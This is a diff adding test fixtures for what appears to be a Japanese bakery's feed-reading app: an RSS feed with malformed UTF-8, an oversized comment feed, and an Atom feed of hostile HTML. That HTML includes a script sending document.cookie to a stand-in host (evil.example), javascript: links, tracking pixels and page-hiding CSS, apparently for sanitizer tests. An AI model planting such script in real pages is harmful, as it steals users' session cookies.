@@ -179,6 +179,75 @@ def shop_page(port: int) -> bytes:
 """.encode()
 
 
+def broken_utf8_rss(*, declare: bool = True) -> bytes:
+    """A UTF-8 comment feed in Japanese where one comment carries bytes that are not UTF-8
+    (a plugin that cut a multi-byte character in half, a Latin-1 paste)."""
+    prolog = '<?xml version="1.0" encoding="UTF-8"?>' if declare else '<?xml version="1.0"?>'
+    head = f"""{prolog}<rss version="2.0"><channel><title>メープル堂ブログのコメント</title>
+<link>https://blog.maple-do.example.jp</link><language>ja</language>
+<item><title>田中より</title><guid isPermaLink="false">c-1</guid>
+<link>https://blog.maple-do.example.jp/c/1</link>
+<description>シュトーレンの予約をお願いします。</description>
+<pubDate>Thu, 19 Nov 2026 10:00:00 +0000</pubDate></item>
+<item><title>""".encode()
+    broken = "壊れた文字".encode()[:-1] + b" caf\xe9 \xff\xfe"  # half a kanji, Latin-1, junk
+    tail = """</title><guid isPermaLink="false">c-2</guid>
+<link>https://blog.maple-do.example.jp/c/2</link>
+<description>文字化けのコメント</description>
+<pubDate>Thu, 19 Nov 2026 11:00:00 +0000</pubDate></item>
+<item><title>鈴木より</title><guid isPermaLink="false">c-3</guid>
+<link>https://blog.maple-do.example.jp/c/3</link>
+<description>返金はできますか？</description>
+<pubDate>Thu, 19 Nov 2026 12:00:00 +0000</pubDate></item>
+</channel></rss>""".encode()
+    return head + broken + tail
+
+
+HOSTILE_HTML = """<p>Loved the <b>stollen</b>!</p>
+<script>document.location='https://evil.example/steal?c='+document.cookie</script>
+<style>body { display: none } .x { background: url(https://tracker.example/css.png) }</style>
+<img src="https://tracker.example/pixel.gif" width="1" height="1" onerror="alert('img')">
+<p style="position:fixed;top:0">Call us: <a href="javascript:alert('link')">here</a>
+<a href="https://maple-do.example.jp/">our shop</a></p>
+<iframe src="https://evil.example/frame"></iframe><noscript>enable scripts</noscript>"""
+
+
+def hostile_html_atom() -> bytes:
+    """An Atom feed whose entries carry script, CSS, tracking images and javascript: links,
+    as HTML (escaped) and as XHTML (inline), with a javascript: entry link."""
+    escaped = HOSTILE_HTML.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    return f"""<?xml version="1.0" encoding="utf-8"?>
+<feed xmlns="http://www.w3.org/2005/Atom"><title>Reviews</title><id>urn:reviews</id>
+<updated>2026-11-20T00:00:00Z</updated>
+<entry><id>urn:reviews:1</id><title type="html">Great &lt;script&gt;alert('title')&lt;/script&gt;\
+ stollen</title><updated>2026-11-20T00:00:00Z</updated>
+<link href="https://reviews.example/1"/><content type="html">{escaped}</content></entry>
+<entry><id>urn:reviews:2</id><title>Inline</title><updated>2026-11-19T00:00:00Z</updated>
+<link href="javascript:alert('entry-link')"/>
+<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Nice staff.</p>\
+<script>alert('xhtml')</script><style>p {{ color: red }}</style>\
+<img src="https://tracker.example/x.gif"/></div></content></entry>
+<entry><id>urn:reviews:3</id><title>No date, odd date</title>\
+<updated>not a date at all</updated><published>99999-01-01T00:00:00Z</published>\
+<link href="https://reviews.example/3"/><summary>Plain summary</summary></entry>
+</feed>""".encode()
+
+
+def huge_entry_rss(size: int = 5_000_000) -> bytes:
+    """One comment of `size` bytes of HTML (just under the app's 5 MiB answer bound) next to
+    an ordinary one."""
+    sentence = "とても長いコメント。"  # 30 bytes of UTF-8
+    body = "<p>" + sentence * (size // len(sentence.encode())) + "</p>"
+    return f"""<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"
+xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Comments</title>
+<item><title>Long</title><guid>huge-1</guid><link>https://blog.example.jp/c/huge</link>
+<content:encoded><![CDATA[{body}]]></content:encoded>
+<pubDate>Thu, 19 Nov 2026 10:00:00 +0000</pubDate></item>
+<item><title>Short</title><guid>short-1</guid><link>https://blog.example.jp/c/short</link>
+<description>Thanks!</description><pubDate>Thu, 19 Nov 2026 11:00:00 +0000</pubDate></item>
+</channel></rss>""".encode()
+
+
 PLAIN_PAGE = b"""<!doctype html><html><head><title>About us</title></head>
 <body><p>We bake every morning.</p></body></html>"""
 
